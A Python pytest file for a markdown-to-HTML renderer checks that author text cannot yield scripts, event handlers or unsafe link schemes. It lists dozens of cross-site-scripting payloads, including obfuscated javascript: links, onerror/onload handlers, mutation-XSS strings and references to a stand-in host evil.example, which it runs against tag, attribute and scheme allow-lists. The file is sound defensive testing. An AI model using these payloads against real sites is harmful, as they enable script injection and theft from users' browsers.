"""Nothing an author pastes runs, loads or disguises itself in a reader's browser."""

from html.parser import HTMLParser

import pytest

from dossier.markup.segments import wall
from tests.markup.showing import rendered, sign

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"//',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<a href=javascript:alert(1)>x</a>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import '//evil.example';</style>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    "<form action=//evil.example><input type=submit>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "</p></div></main><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](&amp;#106;avascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\u00adjavascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    "[x](\\\\\\\\evil.example)",
    "[x](file:///etc/passwd)",
    "[x](https:evil)",
    "[x][j]\n\n[j]: javascript:alert(1)",
    "[j]\n\n[j]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "<javascript://%0aalert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    '![x](x.png" onerror="alert(1))',
    "[x](https://a.example \"\" onclick=\"alert(1)\")",
    '[x](https://a.example/" onclick="alert(1))',
    "[x](https://a.example/'onclick='alert(1))",
    "[x](https://a.example/<script>alert(1)</script>)",
    "[\"><script>alert(1)</script>](https://a.example)",
    "[x](#\"><script>alert(1)</script>)",
    "## x {#\"onclick=alert(1)}",
    "x\n{.own-voice onclick=alert(1)}",
    "x\n{: onclick=alert(1) }",
    "x{: style=color:red }",
    "*[x]: \"onmouseover=alert(1)\n\nx",
    "*[x]: \"><script>alert(1)</script>\n\nx",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| c | d |",
    "`<script>alert(1)</script>`",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "<https://a.example/\"onclick=alert(1)>",
    "<\"onclick=alert(1)@a.example>",
    "<a@b.example\"onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "\\<script>alert(1)\\</script>",
    "[[<script>alert(1)</script>]]",
    "[x](claim:\"><script>alert(1)</script>)",
    "![[claim:<script>alert(1)</script>]]",
    "> [!note\" onclick=alert(1)]\n> x",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
)  # fmt: skip
CONTEXTS = ("{}", "before {} after", "## {}", "- {}", "> {}", "**{}**", "[{}](https://a.example)", "“{}” [@panwar]")
ATTRIBUTES = {"href", "title", "role", "id", "class", "start", "aria-label", "tabindex", "data-name"}


class Seen(HTMLParser):
    """Every tag and attribute of some HTML, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data


def seen(text: str) -> Seen:
    return Seen("".join(map(sign, rendered(text).prose.segments)))


TAGS = set(
    "p h2 h3 h4 h5 h6 ul ol li dl dt dd blockquote aside section table thead tbody tr th td pre code em strong a sup "
    "abbr br hr".split()
)


@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_gets_a_tag_a_handler_or_a_scheme(payload: str, context: str) -> None:
    found = seen(context.replace("{}", payload))
    assert found.tags <= TAGS
    assert {name for name, _ in found.attributes} <= ATTRIBUTES
    schemes = [value.split(":")[0] for name, value in found.attributes if name == "href" and value[:1] != "#"]
    assert set(schemes) <= {"http", "https", "mailto"}
    anchors = [value for name, value in found.attributes if name == "id"]
    assert all(anchor.replace("-", "").isalnum() and anchor.isascii() for anchor in anchors)


def test_raw_html_is_shown_as_it_was_typed() -> None:
    assert seen("A <b title='x'>bold</b> word &amp; <!doctype html>").text == (
        "A <b title='x'>bold</b> word & <!doctype html>"
    )


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>", "<p onclick=alert(1)>x</p>", '<a href="javascript:alert(1)">x</a>',
        '<p style="color:red">x</p>', "<img src=x>", "<p class='other'>x</p>",
    ],
)  # fmt: skip
def test_a_second_wall_stands_behind_the_first(html: str) -> None:
    clean = wall().clean(html)
    assert not any(word in clean for word in ("script", "onclick", "style", "img", "other"))


def test_private_notes_never_reach_the_page() -> None:
    text = (
        "a <!-- secret --> b\n\n> <!-- secret\n> secret --> c\n\n## d <!-- secret -->\n\n| e <!-- secret | --> |\n|---|"
    )
    assert "secret" not in seen(text).text
